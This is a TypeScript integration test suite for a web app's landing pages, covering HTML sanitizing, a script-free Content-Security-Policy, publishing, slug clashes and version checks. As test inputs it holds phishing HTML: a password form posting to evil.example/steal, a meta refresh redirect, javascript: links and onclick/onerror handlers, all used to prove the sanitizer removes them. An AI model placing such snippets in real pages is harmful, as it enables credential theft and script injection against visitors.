import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { beforeAll, describe, test } from '@jest/globals';
import pg from 'pg';
import { useTestApp } from '../testing/api-harness.js';
import { LANDING_PAGE_HTML_POLICY } from './landing-page-html.js';
import { LANDING_PAGE_CSP } from './public-pages.controller.js';
import { sanitizeStoredLandingPages } from './sanitize-stored-pages.js';

describe('landing pages and their public address (real PostgreSQL)', () => {
  const { t, db, world, as } = useTestApp({ world: true });
  let solo: string;
  const unique = () => randomBytes(3).toString('hex');

  beforeAll(async () => {
    solo = world.account('standalone').id;
  });

  test('a published page is served publicly as HTML under a CSP that allows no script; unpublished it is gone', async () => {
    const suffix = unique();
    const body = `<h1>Spring</h1><p>20% off</p><script>document.title = "pwned"</script><img src="https://example.test/a.png">`;
    const created = await as('soloCc').post(`/api/accounts/${solo}/landing-pages`, { title: `Spring Sale — 20% off! <b>${suffix}</b>`, bodyHtml: body });
    assert.equal(created.status, 201, JSON.stringify(created.body));
    assert.deepEqual([created.body.slug, created.body.state, created.body.version, created.headers.etag], [`spring-sale-20-off-b-${suffix}-b`, 'DRAFT', 1, '"1"']);
    const url = `/api/accounts/${solo}/landing-pages/${created.body.id}`;
    const publicUrl = `/api/public/pages/${created.body.slug}`;

    const draft = await t.http.get(publicUrl);
    assert.deepEqual([draft.status, draft.body.code], [404, 'PAGE_NOT_FOUND']);

    assert.equal((await as('soloCc').post(`${url}/publish`)).status, 428);
    const published = await as('soloCc').post(`${url}/publish`, {}, 1);
    assert.equal(published.status, 200, JSON.stringify(published.body));
    assert.equal(published.body.state, 'PUBLISHED');
    assert.ok(published.body.publishedAt);
    assert.equal(published.headers.etag, '"2"');
    assert.equal((await as('soloCc').post(`${url}/publish`, {}, 2)).body.code, 'INVALID_STATE_TRANSITION');

    const page = await t.http.get(publicUrl);
    assert.equal(page.status, 200);
    assert.match(page.headers['content-type']!, /^text\/html; charset=utf-8/);
    assert.equal(page.headers['content-security-policy'], LANDING_PAGE_CSP);
    assert.equal(
      LANDING_PAGE_CSP,
      "default-src 'none'; img-src 'self' data: https:; style-src 'unsafe-inline'; sandbox; form-action 'none'; base-uri 'none'; frame-ancestors 'none'",
    );
    assert.ok(page.text.includes('<h1>Spring</h1><p>20% off</p><img src="https://example.test/a.png" />'), page.text);
    assert.ok(!page.text.includes('<script'), 'the script was removed on write');
    assert.ok(page.text.includes(`<title>Spring Sale — 20% off! &lt;b&gt;${suffix}&lt;/b&gt;</title>`), 'the title is text, not markup');

    const unpublished = await as('soloCc').post(`${url}/unpublish`, {}, 2);
    assert.deepEqual([unpublished.status, unpublished.body.state], [200, 'UNPUBLISHED']);
    assert.equal((await t.http.get(publicUrl)).body.code, 'PAGE_NOT_FOUND');
    assert.equal((await t.http.get('/api/public/pages/No_Such..Slug')).body.code, 'PAGE_NOT_FOUND');

    const actions = (await db.auditEvent.findMany({ where: { accountId: solo, targetId: created.body.id }, orderBy: { id: 'asc' } })).map((e) => e.action);
    assert.deepEqual(actions, ['landing-page.created', 'landing-page.published', 'landing-page.unpublished']);
  });

  test('HTML is cleaned on create and on update: no form, meta refresh, script, handler or javascript: URL is stored', async () => {
    const phishing =
      '<h1>Your account</h1><meta http-equiv="refresh" content="0;url=https://evil.example"><form action="https://evil.example/steal"><input type="password" name="p"><button>Sign in</button></form>' +
      '<a href="javascript:alert(1)" onclick="alert(2)">Help</a><a href="https://help.example">Help</a><img src="https://cdn.example/a.png" onerror="alert(3)">';
    const clean = '<h1>Your account</h1><a>Help</a><a href="https://help.example">Help</a><img src="https://cdn.example/a.png" />';
    const created = await as('soloCc').post(`/api/accounts/${solo}/landing-pages`, { title: `Phish ${unique()}`, bodyHtml: phishing });
    assert.equal(created.status, 201, JSON.stringify(created.body));
    assert.equal(created.body.bodyHtml, clean);
    const url = `/api/accounts/${solo}/landing-pages/${created.body.id}`;
    assert.equal((await as('soloCc').get(url)).body.bodyHtml, clean);

    const updated = await as('soloCc').patch(url, { bodyHtml: `<p>Hi</p>${phishing}` }, 1);
    assert.equal(updated.status, 200, JSON.stringify(updated.body));
    assert.equal(updated.body.bodyHtml, `<p>Hi</p>${clean}`);
    const stored = await db.landingPage.findFirstOrThrow({ where: { accountId: solo, id: created.body.id } });
    assert.deepEqual([stored.bodyHtml, stored.htmlPolicy], [`<p>Hi</p>${clean}`, LANDING_PAGE_HTML_POLICY]);
    const retitled = await as('soloCc').patch(url, { title: 'Retitled' }, 2);
    assert.deepEqual([retitled.status, retitled.body.bodyHtml], [200, `<p>Hi</p>${clean}`]);

    const audit = await db.auditEvent.findMany({ where: { accountId: solo, targetId: created.body.id, action: 'landing-page.updated' }, orderBy: { id: 'asc' } });
    assert.deepEqual(audit.map((event) => event.data), [{ changed: ['bodyHtml'] }, { changed: ['title'] }]);
  });

  test('pages stored before cleaning: served cleaned at once, then cleaned in place by the backfill, once', async () => {
    const slug = `old-page-${unique()}`;
    const raw = '<h1>Old</h1><form action="https://evil.example"><input name="p"></form><meta http-equiv="refresh" content="0;url=https://evil.example"><p onclick="x()">Text</p>';
    const legacy = await db.landingPage.create({ data: { accountId: solo, title: 'Old', slug, bodyHtml: raw, state: 'PUBLISHED', publishedAt: new Date(), htmlPolicy: 0 } });
    const alreadyClean = await db.landingPage.create({ data: { accountId: solo, title: 'Plain', slug: `plain-${unique()}`, bodyHtml: '<p>Plain</p>', htmlPolicy: 0 } });

    const served = await t.http.get(`/api/public/pages/${slug}`);
    assert.equal(served.status, 200);
    assert.ok(served.text.includes('<h1>Old</h1><p>Text</p>'), served.text);
    assert.ok(!/form|refresh|onclick/.test(served.text), served.text);

    const owner = new pg.Pool({ connectionString: process.env.DATABASE_URL, max: 1 });
    try {
      const first = await sanitizeStoredLandingPages(owner);
      assert.ok(first.checked >= 2, JSON.stringify(first));
      assert.ok(first.changed >= 1, JSON.stringify(first));
      assert.deepEqual(await sanitizeStoredLandingPages(owner), { checked: 0, changed: 0 }, 'a second run finds nothing to do');
    } finally {
      await owner.end();
    }
    const cleaned = await db.landingPage.findFirstOrThrow({ where: { accountId: solo, id: legacy.id } });
    assert.deepEqual([cleaned.bodyHtml, cleaned.htmlPolicy, cleaned.version], ['<h1>Old</h1><p>Text</p>', LANDING_PAGE_HTML_POLICY, legacy.version + 1]);
    const untouched = await db.landingPage.findFirstOrThrow({ where: { accountId: solo, id: alreadyClean.id } });
    assert.deepEqual([untouched.bodyHtml, untouched.htmlPolicy, untouched.version], ['<p>Plain</p>', LANDING_PAGE_HTML_POLICY, alreadyClean.version], 'an unchanged body keeps its version');
  });

  test('slugs are unique across accounts: 409 SLUG_TAKEN on create and on rename', async () => {
    const slug = `open-house-${unique()}`;
    const first = await as('soloOwner').post(`/api/accounts/${solo}/landing-pages`, { title: 'Open house', slug });
    assert.equal(first.status, 201);
    const direct = world.account('directClient').id;
    const clash = await as('directOwner').post(`/api/accounts/${direct}/landing-pages`, { title: 'Open House', slug });
    assert.deepEqual([clash.status, clash.body.code], [409, 'SLUG_TAKEN']);
    const other = await as('directOwner').post(`/api/accounts/${direct}/landing-pages`, { title: 'Open House', slug: `${slug}-2` });
    assert.equal(other.status, 201);
    const rename = await as('directOwner').patch(`/api/accounts/${direct}/landing-pages/${other.body.id}`, { slug }, 1);
    assert.deepEqual([rename.status, rename.body.code], [409, 'SLUG_TAKEN']);
    assert.equal((await as('directOwner').get(`/api/accounts/${direct}/landing-pages/${first.body.id}`)).body.code, 'LANDING_PAGE_NOT_FOUND', "another account's page is not found");
  });

  test('edits need If-Match (428, 412 with the current page); input is bounded', async () => {
    const created = await as('soloAm').post(`/api/accounts/${solo}/landing-pages`, { title: `Edit me ${unique()}` });
    const url = `/api/accounts/${solo}/landing-pages/${created.body.id}`;
    assert.equal((await as('soloAm').patch(url, { title: 'New' })).status, 428);
    const edited = await as('soloAm').patch(url, { title: 'New', bodyHtml: '<p>hello</p>' }, 1);
    assert.deepEqual([edited.status, edited.body.title, edited.body.bodyHtml, edited.headers.etag], [200, 'New', '<p>hello</p>', '"2"']);
    const stale = await as('soloAm').patch(url, { title: 'Lost' }, 1);
    assert.deepEqual([stale.status, stale.body.code, stale.body.details.current.title], [412, 'VERSION_CONFLICT', 'New']);
    assert.equal((await as('soloAm').post(`${url}/publish`, {}, 1)).status, 412);

    assert.equal((await as('soloAm').patch(url, { bodyHtml: 'x'.repeat(200 * 1024 + 1) }, 2)).body.code, 'VALIDATION_FAILED');
    assert.equal((await as('soloAm').patch(url, { slug: 'Not A Slug' }, 2)).body.code, 'VALIDATION_FAILED');
    assert.equal((await as('soloAm').patch(url, {}, 2)).body.code, 'NOTHING_TO_UPDATE');
    assert.equal((await as('soloAm').post(`/api/accounts/${solo}/landing-pages`, { title: '!!!' })).body.code, 'SLUG_REQUIRED');
    assert.equal((await as('soloAm').post(`/api/accounts/${solo}/landing-pages`, {})).body.code, 'VALIDATION_FAILED');

    const list = await as('soloAm').get(`/api/accounts/${solo}/landing-pages?filter=${encodeURIComponent('{"state":"DRAFT","q":"new"}')}`);
    assert.equal(list.status, 200);
    assert.ok(list.body.data.some((p: { id: string; bodyHtml?: string }) => p.id === created.body.id && p.bodyHtml === undefined));
    assert.equal((await as('soloAm').get(`/api/accounts/${solo}/landing-pages?filter=${encodeURIComponent('{"state":"GONE"}')}`)).body.code, 'INVALID_FILTER');

    assert.equal((await as('soloAm').delete(url)).status, 428);
    assert.equal((await as('soloAm').delete(url, 1)).status, 412);
    assert.equal((await as('soloAm').delete(url, 2)).status, 204);
    assert.equal((await as('soloAm').get(url)).body.code, 'LANDING_PAGE_NOT_FOUND');
  });
});

describe('landing pages on an origin of their own (PUBLIC_PAGES_URL)', () => {
  const PAGES = 'pages.example.test:8443';
  const { t, world, as } = useTestApp({ env: { PUBLIC_PAGES_URL: `https://${PAGES}` }, world: true });

  test("a page is served only at the pages origin; the portal's address for it redirects there; nothing else is served there", async () => {
    const solo = world.account('standalone').id;
    const slug = `own-origin-${randomBytes(3).toString('hex')}`;
    const created = await as('soloCc').post(`/api/accounts/${solo}/landing-pages`, { title: 'Own origin', slug, bodyHtml: '<p>Hello</p>' });
    assert.equal((await as('soloCc').post(`/api/accounts/${solo}/landing-pages/${created.body.id}/publish`, {}, 1)).status, 200);

    const fromPortal = await t.http.get(`/api/public/pages/${slug}`);
    assert.deepEqual([fromPortal.status, fromPortal.headers.location], [308, `https://${PAGES}/p/${slug}`]);

    // The pages origin is not the API: its answers are checked here, not against the API's contract.
    const pagesOrigin = t.unchecked;
    const page = await pagesOrigin.get(`/p/${slug}`).set('Host', PAGES);
    assert.equal(page.status, 200);
    assert.match(page.text, /<p>Hello<\/p>/);
    assert.equal(page.headers['content-security-policy'], LANDING_PAGE_CSP);
    assert.equal((await pagesOrigin.get('/p/no-such-page').set('Host', PAGES)).body.code, 'PAGE_NOT_FOUND');

    const token = world.caller('soloCc').token;
    for (const [method, path] of [['get', '/'], ['get', `/api/public/pages/${slug}`], ['get', `/api/accounts/${solo}/landing-pages`], ['get', '/api/health'], ['post', '/api/auth/login'], ['post', `/p/${slug}`], ['get', '/index.html']] as const) {
      const res = await pagesOrigin[method](path).set('Host', PAGES).set('Authorization', `Bearer ${token}`);
      assert.deepEqual([res.status, res.body.code], [404, 'NOT_FOUND'], `${method} ${path}`);
    }
  });
});
